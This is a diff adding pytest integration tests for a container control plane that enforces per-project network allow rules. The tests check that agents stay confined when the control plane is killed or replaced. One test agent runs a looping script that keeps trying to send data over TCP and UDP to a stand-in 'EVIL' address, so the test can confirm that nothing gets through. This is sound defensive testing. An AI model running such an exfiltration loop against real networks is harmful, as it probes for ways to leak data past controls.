@@ -1,0 +1,137 @@
+"""
+The control plane as a container: made, killed, replaced and ended while agents run, on a machine of its own.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import os
+import sys
+from collections.abc import AsyncIterator
+from pathlib import Path
+
+import pytest
+import pytest_asyncio
+
+from clawker_cp.testing.docker_machine import NETWORK, DockerMachine, docker_machine
+from clawker_cp.testing.docker_world import missing
+
+pytestmark = [
+    pytest.mark.root, pytest.mark.slow, pytest.mark.docker, pytest.mark.envoy, pytest.mark.timeout(600),
+    pytest.mark.asyncio(loop_scope="module"), pytest.mark.skipif(bool(missing()), reason=missing() or "-"),
+]  # fmt: skip
+
+ROOT = Path(__file__).parents[2]
+CONTROL_PLANE = "clawker-controlplane"
+EVIL = "203.0.113.66"
+CURL = ("/usr/bin/curl", "-sS", "-m", "10", "-o", "/dev/null", "-w", "%{http_code}")
+# Sends to where no rule leads for as long as it is let, over TCP and UDP.
+RESTLESS = f"""
+import socket, time
+u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+while True:
+    for port in (53, 5000):
+        try: u.sendto(b"escaped-swap", ("{EVIL}", port))
+        except OSError: pass
+    try:
+        t = socket.socket(); t.settimeout(0.1); t.connect(("{EVIL}", 6379)); t.send(b"escaped-swap")
+    except OSError: pass
+    time.sleep(0.005)
+"""
+
+
+async def _built(machine: DockerMachine, *words: str, data: str = "") -> None:
+    environment = {**os.environ, **machine.docker.environment(), "DOCKER_BUILDKIT": "0"}
+    pipe = asyncio.subprocess.PIPE
+    process = await asyncio.create_subprocess_exec(
+        *words, env=environment, stdin=pipe, stdout=pipe, stderr=asyncio.subprocess.STDOUT
+    )
+    async with asyncio.timeout(500):
+        out, _ = await process.communicate(data.encode())
+    assert process.returncode == 0, out.decode(errors="replace")[-3000:]
+
+
+@pytest_asyncio.fixture(scope="module", loop_scope="module")
+async def machine() -> AsyncIterator[DockerMachine]:
+    async with docker_machine(own_pids=True, live_restore=True) as machine:
+        environment = machine.machine.environment
+        # What the container is told has to be a path inside of it.
+        config = Path(environment["CLAWKER_CONFIG_DIR"])
+        config.mkdir(parents=True)
+        (config / "world-ca.pem").write_bytes(machine.machine.world.ca.read_bytes())
+        environment["CLAWKER_CP_ENVOY__TRUSTED_CA"] = "/etc/clawker/config/world-ca.pem"
+        await _built(machine, sys.executable, str(ROOT / "tools" / "image.py"), "--tag", "clawker-cp")
+        await _built(machine, "docker", "build", "-t", "newer", "-", data="FROM clawker-cp\nLABEL newer=yes\n")
+        yield machine
+
+
+async def up(machine: DockerMachine, *words: str) -> None:
+    done = await machine.ctl("up", *words, timeout_s=150)
+    assert done.code == 0, done.err
+
+
+async def status(machine: DockerMachine, container: str, url: str) -> tuple[int, str]:
+    done = await machine.inside(container, *CURL, url)
+    return done.code, done.out
+
+
+async def test_up_enforces_agents_and_down_leaves_nothing(machine: DockerMachine) -> None:
+    """From nothing to two enforced agents of two projects, and back to nothing, with two commands."""
+    await up(machine)
+    for project, name in (("shop", "api.example.com"), ("blog", "git.example.org")):
+        done = await machine.ctl("allow", f"http://{name}", "--project", project)
+        assert done.code == 0, done.err
+    shop = await machine.docker.agent("dev", project="shop", network=NETWORK, usr=True)
+    blog = await machine.docker.agent("dev", project="blog", network=NETWORK, usr=True)
+    await machine.wait_enrolled(shop)
+    await machine.wait_enrolled(blog)
+    reached = await status(machine, shop, "http://api.example.com/x")
+    denied = await status(machine, blog, "http://api.example.com/x")
+    refused = await machine.ctl("down")
+    for one in (shop, blog):
+        await machine.docker.client.remove(one, force=True)
+    async with asyncio.timeout(20):
+        while await machine.agents():
+            await asyncio.sleep(0.1)
+    ended = await machine.ctl("down", timeout_s=90)
+    host = machine.machine.host
+    tables = (await host.run(["nft", "list", "tables"])).out
+    pins = (await host.run(["ls", "/sys/fs/bpf"])).out
+    containers = await machine.docker.client.list_containers(every=True)
+
+    assert reached == (0, "200") and denied[0] == 6
+    assert refused.code == 1 and "clawker.shop.dev" in refused.err
+    assert ended.code == 0, ended.err
+    assert "clawker" not in tables and "clawker" not in pins
+    assert [one["Names"] for one in containers] == []
+
+
+async def test_killed_or_replaced_it_opens_nothing(machine: DockerMachine) -> None:
+    """kill -9 (the engine starts it again) and an upgrade, under an agent that never stops trying: nothing arrives."""
+    await up(machine)
+    done = await machine.ctl("allow", "http://api.example.com")
+    assert done.code == 0, done.err
+    restless = await machine.docker.agent("restless", "/usr/bin/python3", "-c", RESTLESS, network=NETWORK, usr=True)
+    await machine.wait_enrolled(restless)
+    await machine.machine.world.reset()
+    await machine.docker.client.kill(CONTROL_PLANE)
+    async with asyncio.timeout(60):
+        while (await status(machine, restless, "http://api.example.com/x")) != (0, "200"):
+            await asyncio.sleep(0.2)
+    killed = await machine.machine.world.packets(dst=EVIL)
+    await machine.wait_enrolled(restless)
+    await up(machine, "--image", "newer")
+    async with asyncio.timeout(60):
+        while (await status(machine, restless, "http://api.example.com/x")) != (0, "200"):
+            await asyncio.sleep(0.2)
+    replaced = await machine.machine.world.packets(dst=EVIL)
+    record = await machine.docker.client.inspect(CONTROL_PLANE)
+    await machine.docker.client.remove(restless, force=True)
+    async with asyncio.timeout(20):
+        while await machine.agents():
+            await asyncio.sleep(0.1)
+    ended = await machine.ctl("down", timeout_s=90)
+
+    assert record["Config"]["Labels"].get("newer") == "yes"
+    assert killed == [] and replaced == []
+    assert ended.code == 0, ended.err
